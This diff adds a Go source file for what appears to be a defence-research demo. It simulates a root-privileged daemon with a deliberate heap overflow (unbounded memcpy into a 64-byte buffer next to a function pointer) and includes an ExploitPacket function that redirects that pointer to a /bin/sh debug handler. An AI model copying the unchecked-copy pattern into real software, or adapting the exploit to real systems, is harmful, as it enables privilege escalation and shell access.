@@ -1,0 +1,139 @@
+// Package victim provides the sample applications the HEALERS demos run
+// against:
+//
+//   - rootd: the root-privileged network daemon of the §3.4 demonstration
+//     with a classic heap buffer overflow — a request handler copies an
+//     attacker-controlled packet into a fixed 64-byte heap buffer sitting
+//     right below a function pointer, then jumps through that pointer
+//     (the structure of the published exploit in Fetzer & Xiao, SRDS'01);
+//   - textutil: a string-heavy text-processing program for the profiling
+//     demo (Fig. 5) and the overhead benchmarks;
+//   - stress: a deterministic mixed libc workload for macro benchmarks.
+package victim
+
+import (
+	"encoding/binary"
+	"fmt"
+
+	"healers/internal/clib"
+	"healers/internal/cmem"
+	"healers/internal/cval"
+	"healers/internal/simelf"
+)
+
+// Rootd layout constants — "known to the attacker", as real binary
+// layouts are.
+const (
+	// RootdBufSize is the request buffer's size.
+	RootdBufSize = 64
+	// rootdRecvMax is the size of the scratch receive buffer.
+	rootdRecvMax = 256
+)
+
+// RootdName is the vulnerable daemon's executable name.
+const RootdName = "rootd"
+
+// rootdHandlerOffset is where the handler function pointer lands relative
+// to the request buffer when the daemon runs *without* heap canaries:
+// [buf 64][next chunk hdr 8][handler 4] — the pointer sits 72 bytes past
+// the buffer base. The attacker hardcodes this, exactly like a real
+// exploit hardcodes chunk layout.
+const rootdHandlerOffset = RootdBufSize + 8
+
+// RootdDebugShellAddr is the text address of rootd's debug_shell handler:
+// the second registration after log_request.
+const RootdDebugShellAddr = cval.TextBase + cval.TextStep
+
+// rootdMain is the daemon: receive a packet, copy it into the connection
+// buffer (the bug: no bound check), then dispatch through the handler
+// pointer.
+func rootdMain(c simelf.Caller, argv []string) int32 {
+	env := c.Env()
+
+	// The daemon's request handlers live in its text segment. The
+	// developers also left in a debug handler that drops to a shell —
+	// dead code, but present at a known address.
+	logHandler := env.RegisterText("log_request", func(e *cval.Env, _ []cval.Value) (cval.Value, *cmem.Fault) {
+		e.Stdout.WriteString("rootd: request logged\n")
+		return 0, nil
+	})
+	debugShell := env.RegisterText("debug_shell", func(e *cval.Env, _ []cval.Value) (cval.Value, *cmem.Fault) {
+		cmd, f := e.Img.StaticString("/bin/sh")
+		if f != nil {
+			return 0, f
+		}
+		// Even the debug handler calls system through the PLT.
+		return c.Call("system", cval.Ptr(cmd))
+	})
+	if debugShell != RootdDebugShellAddr {
+		// The exploit hardcodes this address; if the layout drifts the
+		// demo must fail loudly rather than silently test nothing.
+		panic(fmt.Sprintf("victim: debug_shell at %s, expected %s", debugShell, RootdDebugShellAddr))
+	}
+
+	// Connection state: a request buffer and, immediately after it on
+	// the heap, the handler function pointer.
+	buf := c.MustCall("malloc", cval.Uint(RootdBufSize))
+	handlerSlot := c.MustCall("malloc", cval.Uint(4))
+	if buf.IsNull() || handlerSlot.IsNull() {
+		return 1
+	}
+	if f := env.Img.Space.WriteU32(handlerSlot.Addr(), uint32(logHandler)); f != nil {
+		c.Raise(f)
+	}
+
+	// Receive the "network" packet (stdin stands in for the socket).
+	recvBuf, f := env.Img.StaticAlloc(rootdRecvMax)
+	if f != nil {
+		c.Raise(f)
+	}
+	n := c.MustCall("read", cval.Int(0), cval.Ptr(recvBuf), cval.Uint(rootdRecvMax))
+	if n.Int32() <= 0 {
+		return 1
+	}
+
+	// THE BUG: copy n bytes into a 64-byte buffer.
+	c.MustCall("memcpy", buf, cval.Ptr(recvBuf), cval.Uint(uint64(uint32(n.Int32()))))
+
+	// Dispatch the request through the (possibly clobbered) pointer.
+	ptr, f := env.Img.Space.ReadU32(handlerSlot.Addr())
+	if f != nil {
+		c.Raise(f)
+	}
+	if _, f := env.CallIndirect(cval.Ptr(cmem.Addr(ptr)), nil); f != nil {
+		c.Raise(f)
+	}
+	return 0
+}
+
+// ExploitPacket crafts the heap-smash packet: fill the request buffer,
+// ride over the next chunk's header, and overwrite the handler pointer
+// with debug_shell's address.
+func ExploitPacket() []byte {
+	pkt := make([]byte, rootdHandlerOffset+4)
+	for i := 0; i < rootdHandlerOffset; i++ {
+		pkt[i] = 'A'
+	}
+	binary.LittleEndian.PutUint32(pkt[rootdHandlerOffset:], uint32(RootdDebugShellAddr))
+	return pkt
+}
+
+// BenignPacket crafts a well-behaved request.
+func BenignPacket(msg string) []byte {
+	if len(msg) >= RootdBufSize {
+		msg = msg[:RootdBufSize-1]
+	}
+	return []byte(msg + "\x00")
+}
+
+// Rootd returns the daemon's executable image.
+func Rootd() *simelf.Executable {
+	return &simelf.Executable{
+		Name:       RootdName,
+		Interp:     "sim-ld.so",
+		Needed:     []string{clib.LibcSoname},
+		Undefined:  []string{"malloc", "read", "memcpy", "system"},
+		Privileged: true,
+		Main:       rootdMain,
+	}
+}
